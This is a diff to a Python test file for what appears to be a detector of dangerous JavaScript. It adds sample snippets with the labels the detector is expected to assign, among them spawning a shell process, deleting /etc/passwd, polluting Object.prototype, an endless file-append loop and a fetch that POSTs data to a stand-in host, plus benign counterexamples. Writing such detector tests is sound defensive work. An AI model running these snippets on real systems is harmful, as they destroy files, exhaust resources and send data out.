@@ -77,6 +77,11 @@ def test_a_command_is_found_behind_every_way_of_saying_it(source: str) -> None:
         ("import(x)", "dynamic_code"),
         ("const cp = require('child_process'); cp.spawn('sh', ['-c', 'id'])", "process"),
         ("process.kill(1)", "kill"),
+        ("import('child_process').then(m => m.exec('id'))", "process"),
+        ("import('fs').then((m) => m.unlinkSync('/etc/passwd'))", "file_delete"),
+        ("Object.prototype.isAdmin = true", "reflection"),
+        ("setInterval(() => require('fs').appendFileSync('/tmp/x', y), 0)", "resource_bomb"),
+        ("fetch('https://e.example/', { method: 'POST', body: x })", "sends"),
     ],
 )
 def test_what_it_does_is_named(source: str, flag: str) -> None:
@@ -94,6 +99,8 @@ def test_what_it_does_is_named(source: str, flag: str) -> None:
         "// eval(x)\nconsole.log('eval is bad')",
         "const re = /exec\\(/; re.exec('x')",
         "setTimeout(() => console.log(1), 10)",
+        "setInterval(() => console.log(1), 10)",
+        "Array.prototype.last = function () { return this[this.length - 1] }",
         "JSON.parse('{\"a\": 1}')",
         "items.forEach(i => { total += i.price })",
         "const path = require('path'); path.join('a', 'b')",
